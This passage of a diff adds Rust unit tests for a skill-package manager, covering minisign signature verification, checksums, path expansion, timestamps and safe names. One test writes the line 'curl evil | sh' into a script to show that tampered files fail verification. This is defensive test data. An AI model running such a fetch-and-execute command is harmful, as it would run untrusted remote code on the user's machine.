+            "31ca6c61ca3fcc54029a62bd082448b88718b913d24e195794969dd2d123b990  SKILL.md
+ab08508fdf5ca4da5c4995987bc41c56c048aaa5eeb046417ae4049b7d40286e  scripts/run.sh
+",
+        )
+        .unwrap();
+        assert_eq!(
+            verify_skill_signature(&temp_dir, &trusted).unwrap_err(),
+            "SHA256SUMS.minisig is missing"
+        );
+        fs::write(
+            temp_dir.join("SHA256SUMS.minisig"),
+            "untrusted comment: signature from minisign secret key
+RUQBI0VniavN7+ZcUFy7PPDHKqA3TXkwviLf9Ft/nTtzvLBOd29hEf4NlazzIyKu6pslpTkMWsmoKv5/0LQRQ3NrDO9Weh+fGgA=
+trusted comment: timestamp:1700000000\tfile:SHA256SUMS\thashed
+jT8HvVjSf5+kcviL9t4o4n0eoo1AyQVPvdvv8HCLIMD9xJF+KQufUr/CyavOncQjr7GgA9dpLsjz8lygA2roCw==
+",
+        )
+        .unwrap();
+        assert!(verify_skill_signature(&temp_dir, &trusted).is_ok());
+        assert!(verify_skill_signature(&temp_dir, &[]).is_err());
+        assert_eq!(
+            verify_skill_signature(&temp_dir, &other).unwrap_err(),
+            "SHA256SUMS.minisig was made with a key that is not in trusted_keys"
+        );
+
+        // Every file is covered, not just the manifest.
+        fs::write(temp_dir.join("scripts/run.sh"), "curl evil | sh\n").unwrap();
+        assert_eq!(
+            verify_skill_signature(&temp_dir, &trusted).unwrap_err(),
+            "scripts/run.sh does not match its hash in SHA256SUMS"
+        );
+        fs::write(temp_dir.join("scripts/run.sh"), "echo hi\n").unwrap();
+        fs::write(temp_dir.join("scripts/extra.sh"), "echo extra\n").unwrap();
+        assert_eq!(
+            verify_skill_signature(&temp_dir, &trusted).unwrap_err(),
+            "scripts/extra.sh is not listed in SHA256SUMS"
+        );
+        fs::remove_file(temp_dir.join("scripts/extra.sh")).unwrap();
+        fs::remove_file(temp_dir.join("scripts/run.sh")).unwrap();
+        assert_eq!(
+            verify_skill_signature(&temp_dir, &trusted).unwrap_err(),
+            "scripts/run.sh is listed in SHA256SUMS but missing"
+        );
+        fs::write(temp_dir.join("scripts/run.sh"), "echo hi\n").unwrap();
+
+        // The list itself is signed.
+        fs::write(
+            temp_dir.join("SHA256SUMS"),
+            "31ca6c61ca3fcc54029a62bd082448b88718b913d24e195794969dd2d123b990  SKILL.md\n",
+        )
+        .unwrap();
+        assert_eq!(
+            verify_skill_signature(&temp_dir, &trusted).unwrap_err(),
+            "SHA256SUMS.minisig does not match the contents of SHA256SUMS"
+        );
+
+        fs::remove_dir_all(&temp_dir).unwrap();
+    }
+
+    #[test]
+    fn test_parallel_map_keeps_order() {
+        let items: Vec<u64> = (0..100).collect();
+        let squares = parallel_map(&items, 4, |n| n * n);
+        assert_eq!(squares, items.iter().map(|n| n * n).collect::<Vec<_>>());
+        assert!(parallel_map(&[] as &[u64], 4, |n| *n).is_empty());
+    }
+
+    #[test]
+    fn test_unique_temp_name() {
+        let first = unique_temp_name("demo");
+        let second = unique_temp_name("demo");
+        assert_ne!(first, second);
+        assert!(is_temp_name_for(&first, "demo"));
+        assert!(is_temp_name_for(".demo.tmp", "demo"));
+        assert!(!is_temp_name_for(&first, "dem"));
+        assert!(!is_temp_name_for(&unique_temp_name("demo.v2"), "demo"));
+        assert!(!is_temp_name_for(".demo.old.tmp", "demo"));
+    }
+
+    #[test]
+    fn test_expand_path() {
+        let lookup = |name: &str| (name == "HOME").then(|| "/home/me".to_string());
+        let home = Some(PathBuf::from("/home/me"));
+        let expand = |path: &str| expand_path_with(path, lookup, home.clone());
+
+        assert_eq!(expand("~/foo"), PathBuf::from("/home/me/foo"));
+        assert_eq!(expand("~"), PathBuf::from("/home/me"));
+        assert_eq!(expand("$HOME/foo"), PathBuf::from("/home/me/foo"));
+        assert_eq!(expand("${HOME}/foo"), PathBuf::from("/home/me/foo"));
+        assert_eq!(expand("%HOME%/foo"), PathBuf::from("/home/me/foo"));
+        assert_eq!(expand("skills/foo"), PathBuf::from("skills/foo"));
+        assert_eq!(expand("~user/foo"), PathBuf::from("~user/foo"));
+        assert_eq!(expand("$UNSET/foo"), PathBuf::from("$UNSET/foo"));
+    }
+
     #[test]
     fn test_calculate_checksum() {
         let temp_dir = std::env::temp_dir().join("skills_test_checksum");
@@ -58,17 +997,344 @@ mod tests {
         fs::write(temp_dir.join("file1.txt"), b"content1").unwrap();
         fs::write(temp_dir.join("file2.txt"), b"content2").unwrap();
 
-        let checksum1 = calculate_checksum(&temp_dir).unwrap();
+        let checksum1 = calculate_checksum(&temp_dir, ChecksumAlgorithm::Sha256).unwrap();
 
-        let checksum2 = calculate_checksum(&temp_dir).unwrap();
+        let checksum2 = calculate_checksum(&temp_dir, ChecksumAlgorithm::Sha256).unwrap();
         assert_eq!(checksum1, checksum2);
 
         assert!(checksum1.starts_with("sha256:"));
 
         fs::write(temp_dir.join("file1.txt"), b"modified").unwrap();
-        let checksum3 = calculate_checksum(&temp_dir).unwrap();
+        let checksum3 = calculate_checksum(&temp_dir, ChecksumAlgorithm::Sha256).unwrap();
         assert_ne!(checksum1, checksum3);
 
         fs::remove_dir_all(&temp_dir).unwrap();
     }
+
+    #[test]
+    fn test_dir_size() {
+        let temp_dir = std::env::temp_dir().join("skills_test_dir_size");
+        fs::remove_dir_all(&temp_dir).ok();
+        fs::create_dir_all(temp_dir.join("scripts")).unwrap();
+        fs::write(temp_dir.join("SKILL.md"), b"# Demo").unwrap();
+        fs::write(temp_dir.join("scripts/run.sh"), b"echo hi\n").unwrap();
+
+        assert_eq!(dir_size(&temp_dir).unwrap(), (2, 14));
+
+        fs::remove_dir_all(&temp_dir).unwrap();
+    }
+
+    #[test]
+    fn test_calculate_checksum_is_stable() {
+        let temp_dir = std::env::temp_dir().join("skills_test_checksum_stable");
+        fs::remove_dir_all(&temp_dir).ok();
+        fs::create_dir_all(&temp_dir).unwrap();
+        fs::write(temp_dir.join("SKILL.md"), b"# Demo").unwrap();
+
+        assert_eq!(
+            calculate_checksum(&temp_dir, ChecksumAlgorithm::Sha256).unwrap(),
+            "sha256:9dbab6910956ca49449d81ea75d5ca040feb9600fb9ce871e037888907a20206"
+        );
+
+        fs::remove_dir_all(&temp_dir).unwrap();
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_calculate_checksum_ignores_symlink_cycles() {
+        let temp_dir = std::env::temp_dir().join("skills_test_checksum_cycle");
+        fs::remove_dir_all(&temp_dir).ok();
+        fs::create_dir_all(temp_dir.join("nested")).unwrap();
+        fs::write(temp_dir.join("SKILL.md"), b"# Demo").unwrap();
+        let before = calculate_checksum(&temp_dir, ChecksumAlgorithm::Sha256).unwrap();
+
+        std::os::unix::fs::symlink(&temp_dir, temp_dir.join("nested/loop")).unwrap();
+        let after = calculate_checksum(&temp_dir, ChecksumAlgorithm::Sha256).unwrap();
+        assert_eq!(before, after);
+
+        fs::remove_dir_all(&temp_dir).unwrap();
+    }
+
+    #[test]
+    fn test_calculate_checksum_rejects_deep_trees() {
+        let temp_dir = std::env::temp_dir().join("skills_test_checksum_deep");
+        fs::remove_dir_all(&temp_dir).ok();
+        let deepest = (0..=MAX_TREE_DEPTH).fold(temp_dir.clone(), |dir, _| dir.join("d"));
+        fs::create_dir_all(&deepest).unwrap();
+        fs::write(deepest.join("file.txt"), b"deep").unwrap();
+
+        let err = calculate_checksum(&temp_dir, ChecksumAlgorithm::Sha256).unwrap_err();
+        assert!(err.to_string().contains("nested more than"));
+
+        fs::remove_dir_all(&temp_dir).unwrap();
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_tree_mtime() {
+        use std::time::Duration;
+
+        let temp_dir = std::env::temp_dir().join("skills_test_tree_mtime");
+        fs::remove_dir_all(&temp_dir).ok();
+        fs::create_dir_all(&temp_dir).unwrap();
+        fs::write(temp_dir.join("SKILL.md"), b"# Demo").unwrap();
+
+        let old = UNIX_EPOCH + Duration::from_secs(1_000_000);
+        for path in [temp_dir.join("SKILL.md"), temp_dir.clone()] {
+            fs::File::open(&path).unwrap().set_modified(old).unwrap();
+        }
+        assert_eq!(tree_mtime(&temp_dir).unwrap(), 1_000_000_000_000_000);
+        assert_eq!(cacheable_tree_mtime(&temp_dir), Some(1_000_000_000_000_000));
+
+        // A fresh change moves the newest mtime and is too recent to cache.
+        fs::write(temp_dir.join("extra.txt"), b"new").unwrap();
+        assert!(tree_mtime(&temp_dir).unwrap() > 1_000_000_000_000_000);
+        assert_eq!(cacheable_tree_mtime(&temp_dir), None);
+
+        fs::remove_dir_all(&temp_dir).unwrap();
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_remove_skill_dir_keeps_symlink_target() {
+        let temp_dir = std::env::temp_dir().join("skills_test_remove_symlink");
+        fs::remove_dir_all(&temp_dir).ok();
+        let target = temp_dir.join("checkout");
+        let link = temp_dir.join("skills/demo");
+        fs::create_dir_all(&target).unwrap();
+        fs::create_dir_all(link.parent().unwrap()).unwrap();
+        fs::write(target.join("SKILL.md"), b"# Demo").unwrap();
+        std::os::unix::fs::symlink(&target, &link).unwrap();
+
+        assert!(is_symlink(&link));
+        assert!(!is_symlink(&target));
+        remove_skill_dir(&link).unwrap();
+        assert!(fs::symlink_metadata(&link).is_err());
+        assert!(target.join("SKILL.md").exists());
+
+        fs::remove_dir_all(&temp_dir).unwrap();
+    }
+
+    #[test]
+    fn test_ensure_skill_manifest_rejects_empty_skills() {
+        let temp_dir = std::env::temp_dir().join("skills_test_empty_skill");
+        fs::remove_dir_all(&temp_dir).ok();
+        fs::create_dir_all(temp_dir.join("assets")).unwrap();
+        fs::write(temp_dir.join(".gitkeep"), b"").unwrap();
+        fs::write(temp_dir.join("assets/.gitkeep"), b"").unwrap();
+        assert!(matches!(
+            ensure_skill_manifest(&temp_dir, &[]),
+            Err(SkillsError::EmptySkill(_))
+        ));
+
+        fs::write(temp_dir.join("SKILL.md"), b"  \n").unwrap();
+        assert!(matches!(
+            ensure_skill_manifest(&temp_dir, &[]),
+            Err(SkillsError::EmptySkill(_))
+        ));
+
+        fs::write(temp_dir.join("SKILL.md"), b"# Demo").unwrap();
+        assert!(ensure_skill_manifest(&temp_dir, &[]).is_ok());
+
+        fs::remove_dir_all(&temp_dir).unwrap();
+    }
+
+    #[test]
+    fn test_is_manifest_name() {
+        assert!(is_manifest_name("skill.md", &[]));
+        assert!(!is_manifest_name("AGENT.md", &[]));
+
+        let names = vec!["SKILL.md".to_string(), "agent.md".to_string()];
+        assert!(is_manifest_name("AGENT.md", &names));
+        assert!(is_manifest_name("Skill.md", &names));
+        assert!(!is_manifest_name("skill.yaml", &names));
+    }
+
+    #[test]
+    fn test_checksum_algorithms() {
+        let temp_dir = std::env::temp_dir().join("skills_test_checksum_algorithms");
+        fs::create_dir_all(&temp_dir).unwrap();
+        fs::write(temp_dir.join("SKILL.md"), b"# Demo").unwrap();
+
+        for algorithm in [
+            ChecksumAlgorithm::Sha256,
+            ChecksumAlgorithm::Sha512,
+            ChecksumAlgorithm::Blake3,
+        ] {
+            let checksum = calculate_checksum(&temp_dir, algorithm).unwrap();
+            assert_eq!(ChecksumAlgorithm::of_checksum(&checksum), Some(algorithm));
+            assert!(checksum_matches(&temp_dir, &checksum).unwrap());
+        }
+        assert!(!checksum_matches(&temp_dir, "md5:abc").unwrap());
+        assert!(checksum_matches(&temp_dir, SKIPPED_CHECKSUM).unwrap());
+
+        fs::remove_dir_all(&temp_dir).unwrap();
+    }
+
+    #[test]
+    fn test_parse_checksum() {
+        let sha256 = format!("sha256:{}", "a".repeat(64));
+        assert_eq!(
+            parse_checksum(&sha256),
+            Ok((ChecksumAlgorithm::Sha256, &sha256[7..]))
+        );
+        assert!(parse_checksum(&format!("sha512:{}", "a".repeat(128))).is_ok());
+        assert_eq!(
+            parse_checksum("sha3:abc").unwrap_err(),
+            "unknown checksum algorithm 'sha3'"
+        );
+        assert!(parse_checksum("sha256:abc").is_err());
+        assert!(parse_checksum(&format!("blake3:{}", "z".repeat(64))).is_err());
+        assert!(parse_checksum("abc").is_err());
+    }
+
+    #[test]
+    fn test_parse_until_date() {
+        assert_eq!(
+            parse_until_date("2024-06-01").unwrap(),
+            "2024-06-01T23:59:59Z"
+        );
+        assert_eq!(
+            parse_until_date("2024-02-29T08:30:00Z").unwrap(),
+            "2024-02-29T08:30:00Z"
+        );
+
+        for invalid in [
+            "2024-6-1",
+            "2023-02-29",
+            "2024-13-01",
+            "2024-06-01T24:00:00Z",
+            "yesterday",
+        ] {
+            assert!(matches!(
+                parse_until_date(invalid),
+                Err(SkillsError::InvalidDate(_))
+            ));
+        }
+    }
+
+    #[test]
+    fn test_parse_timestamp() {
+        assert_eq!(parse_timestamp("1970-01-01T00:00:00Z"), Some(0));
+        assert_eq!(parse_timestamp("2024-02-29T12:30:15Z"), Some(1_709_209_815));
+        assert_eq!(parse_timestamp("2000-03-01"), Some(951_955_199));
+        assert_eq!(parse_timestamp("not a date"), None);
+    }
+
+    #[test]
+    fn test_same_commit() {
+        let full = "0123456789abcdef0123456789abcdef01234567";
+        assert!(same_commit(full, full));
+        assert!(same_commit("0123456", full));
+        assert!(same_commit(full, "0123456789AB"));
+        assert!(!same_commit("012345", full));
+        assert!(!same_commit("1234567", full));
+        assert!(!same_commit("main", "main-branch"));
+        assert!(!same_commit(
+            "0123456789abcdef0123456789abcdef01234568",
+            full
+        ));
+    }
+
+    #[test]
+    fn test_format_timestamp() {
+        assert_eq!(format_timestamp(0), "1970-01-01T00:00:00Z");
+        assert_eq!(format_timestamp(1_709_209_815), "2024-02-29T12:30:15Z");
+        for ts in ["2000-03-01T23:59:59Z", "2023-12-31T00:00:01Z"] {
+            assert_eq!(format_timestamp(parse_timestamp(ts).unwrap()), ts);
+        }
+    }
+
+    #[test]
+    fn test_source_id() {
+        assert_eq!(
+            source_id("https://github.com/Owner/Repo/tree/main/skills/demo").as_deref(),
+            Some("github.com/owner/repo")
+        );
+        assert_eq!(
+            source_id("git+ssh://git@git.example.com:2222/team/skills.git#v1:demo").as_deref(),
+            Some("git.example.com/team/skills")
+        );
+        assert_eq!(source_id("https://github.com/owner"), None);
+        assert_eq!(source_id("local"), None);
+    }
+
+    #[test]
+    fn test_glob_match() {
+        assert!(glob_match("legacy-*", "legacy-foo"));
+        assert!(glob_match("legacy-*", "legacy-"));
+        assert!(!glob_match("legacy-*", "new-legacy-foo"));
+        assert!(glob_match("skill-?", "skill-a"));
+        assert!(!glob_match("skill-?", "skill-ab"));
+        assert!(glob_match("a.b", "a.b"));
+        assert!(!glob_match("a.b", "axb"));
+    }
+
+    #[test]
+    fn test_format_bytes() {
+        assert_eq!(format_bytes(0), "0 B");
+        assert_eq!(format_bytes(1023), "1023 B");
+        assert_eq!(format_bytes(1536), "1.5 KiB");
+        assert_eq!(format_bytes(5 * 1024 * 1024), "5.0 MiB");
+    }
+
+    #[test]
+    fn test_prefixed_name() {
+        assert_eq!(prefixed_name("editor", "acme-"), "acme-editor");
+        assert_eq!(
+            prefixed_name("writing/editor", "acme-"),
+            "writing/acme-editor"
+        );
+    }
+
+    #[test]
+    fn test_find_name_collision() {
+        let existing = ["Foo", "bar"];
+
+        assert_eq!(find_name_collision("foo", existing), Some("Foo"));
+        assert_eq!(find_name_collision("Foo", existing), None);
+        assert_eq!(find_name_collision("baz", existing), None);
+        // "é" precomposed vs "e" + combining acute accent.
+        assert_eq!(
+            find_name_collision("caf\u{e9}", ["Cafe\u{301}"]),
+            Some("Cafe\u{301}")
+        );
+    }
+
+    #[test]
+    fn test_copy_then_remove() {
+        let temp_dir = std::env::temp_dir().join("skills_test_copy_then_remove");
+        fs::remove_dir_all(&temp_dir).ok();
+        let from = temp_dir.join("from");
+        fs::create_dir_all(from.join("scripts")).unwrap();
+        fs::write(from.join("SKILL.md"), b"# Demo").unwrap();
+        fs::write(from.join("scripts/run.sh"), b"echo hi").unwrap();
+        let checksum = calculate_checksum(&from, ChecksumAlgorithm::Sha256).unwrap();
+
+        let to = temp_dir.join("to");
+        copy_then_remove(&from, &to).unwrap();
+        assert!(!from.exists());
+        assert_eq!(
+            calculate_checksum(&to, ChecksumAlgorithm::Sha256).unwrap(),
+            checksum
+        );
+
+        // A failed copy leaves nothing behind at the destination.
+        let missing = temp_dir.join("missing");
+        let partial = temp_dir.join("partial");
+        assert!(copy_then_remove(&missing, &partial).is_err());
+        assert!(!partial.exists());
+
+        fs::remove_dir_all(&temp_dir).unwrap();
+    }
+
+    #[test]
+    fn test_is_safe_skill_name() {
+        assert!(is_safe_skill_name("acme-frontend-design"));
+        assert!(is_safe_skill_name("writing/acme_editor.v2"));
+        assert!(!is_safe_skill_name("acme frontend"));
+        assert!(!is_safe_skill_name(".hidden"));
+        assert!(!is_safe_skill_name("../escape"));
+        assert!(!is_safe_skill_name("writing/"));
+    }
 }